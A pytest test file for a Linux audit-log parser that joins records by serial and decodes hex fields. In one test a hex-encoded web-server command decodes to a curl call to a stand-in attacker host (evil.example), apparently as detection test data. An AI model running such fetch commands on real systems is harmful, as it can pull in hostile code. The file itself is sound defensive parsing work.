"""The Linux audit log: records joined by serial, encoded fields decoded. The first event is the audit guide's."""

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

Read = Callable[..., Any]
AT = "msg=audit(1364481363.243:24287): "
OPENED = [
    f"type=SYSCALL {AT}arch=c000003e syscall=2 success=no exit=-13 a0=7fffd19c5592 a1=0 items=1 ppid=2686 pid=3538 "
    'tty=pts0 ses=1 comm="cat" exe="/bin/cat" key="sshd_config"',
    f'type=CWD {AT} cwd="/srv/shadowman"',
    f'type=PATH {AT}item=0 name="/etc/ssh/sshd_config" inode=409248 mode=0100600 nametype=NORMAL',
    f"type=PROCTITLE {AT} proctitle=636174002F6574632F7373682F737368645F636F6E666967",
]


def test_records_of_one_serial_are_one_event(read: Read) -> None:
    (event,), tally = read(*OPENED)
    assert event.fields["type"] == ("SYSCALL", "CWD", "PATH", "PROCTITLE")
    assert event.time == datetime(2013, 3, 28, 14, 36, 3, 243_000, tzinfo=UTC)
    assert event.fields["proctitle"] == ("cat /etc/ssh/sshd_config",)
    assert event.fields["SYSCALL"] == ("open",)
    assert (event.line, event.fields["name"], event.fields["key"]) == (1, ("/etc/ssh/sshd_config",), ("sshd_config",))
    assert tally.unparsed == 0


def test_records_between_one_another_are_told_apart(read: Read) -> None:
    other = [line.replace("24287", "24288").replace("/bin/cat", "/bin/tac") for line in OPENED]
    events, _ = read(*(line for pair in zip(OPENED, other, strict=True) for line in pair))
    assert [event.fields["exe"] for event in events] == [("/bin/cat",), ("/bin/tac",)]


def test_the_end_of_an_event_is_heeded(read: Read) -> None:
    events, _ = read(*OPENED, f"type=EOE {AT}", *OPENED)
    assert [event.line for event in events] == [1, 6]


def test_a_started_program_has_the_names_of_process_creation(read: Read) -> None:
    (event,), _ = read(
        f'type=SYSCALL {AT}arch=c00000b7 syscall=221 ppid=1 pid=2 comm="sh" exe="/usr/bin/dash"\x1dARCH=aarch64 UID="www-data"',
        f'type=EXECVE {AT}argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F6576696C2E6578616D706C6520 a3_len=1',
        f'type=CWD {AT} cwd="/var/www"',
    )
    got = {
        name: event.fields[name]
        for name in ("Image", "CommandLine", "CurrentDirectory", "User", "ParentProcessId", "SYSCALL", "a2")
    }
    assert got == {
        "Image": ("/usr/bin/dash",),
        "CommandLine": ("sh -c curl http://evil.example",),
        "CurrentDirectory": ("/var/www",),
        "User": ("www-data",),
        "ParentProcessId": (1,),
        "SYSCALL": ("execve",),
        "a2": ("curl http://evil.example",),
    }
    assert event.kind.channel == "auditd/process"


def test_a_long_argument_comes_in_pieces(read: Read) -> None:
    (event,), _ = read(f'type=EXECVE {AT}argc=2 a0="x" a1_len=4 a1[0]="ab" a1[1]="cd"')
    assert event.fields["a1"] == ("abcd",)


def test_a_created_file_has_the_names_of_file_events(read: Read) -> None:
    (event,), _ = read(
        f'type=SYSCALL {AT}arch=c000003e syscall=257 exe="/usr/bin/touch"',
        f'type=CWD {AT} cwd="/etc/cron.d"',
        f'type=PATH {AT}item=0 name="/etc/cron.d" nametype=PARENT',
        f'type=PATH {AT}item=1 name="./job" nametype=CREATE',
    )
    assert (event.kind.channel, event.fields["TargetFilename"]) == ("auditd/file", ("/etc/cron.d/job",))


@pytest.mark.parametrize(
    ("record", "name", "value"),
    [
        ("type=USER_CMD {at}pid=1 msg='cwd=\"/root\" cmd=6C73202D6C terminal=pts/0 res=success'", "cmd", "ls -l"),
        ("type=PATH {at}name=2F746D702F612062 nametype=NORMAL", "name", "/tmp/a b"),
        ("type=PATH {at}name=(null) nametype=NORMAL", "name", None),
        ("type=SYSCALL {at}a0=7FFD a1=10 key=(null)", "a0", "7FFD"),
        ('type=SYSCALL {at}comm=6D79 exe="/x"', "comm", "my"),
        ('type=USER_LOGIN {at}acct="root" addr=203.0.113.5 res=failed', "addr", "203.0.113.5"),
    ],
)
def test_what_was_encoded_is_decoded_and_nothing_else(read: Read, record: str, name: str, value: str | None) -> None:
    (event,), _ = read(record.format(at=AT))
    assert event.fields.get(name, (None,))[0] == value


def test_the_node_and_a_syslog_head_name_the_host(read: Read) -> None:
    events, _ = read(f"node=a.example {OPENED[0]}", f"May 15 03:12:44 b audispd: {OPENED[0]}")
    assert sorted(event.host for event in events) == ["a.example", "b"]


def test_an_event_without_an_end_does_not_grow_for_ever(read: Read) -> None:
    events, _ = read(*[OPENED[1]] * 1_000)
    assert len(events) == 4


def test_many_events_are_given_in_the_order_they_began(read: Read) -> None:
    events, _ = read(*(OPENED[0].replace("24287", str(serial)) for serial in range(200)))
    assert [event.line for event in events] == list(range(1, 201))


def test_a_created_file_whose_name_the_kernel_did_not_keep_has_no_name(read: Read) -> None:
    (event,), _ = read(f'type=CWD {AT} cwd="/root"', f"type=PATH {AT}item=0 name=(null) nametype=CREATE")
    assert "TargetFilename" not in event.fields
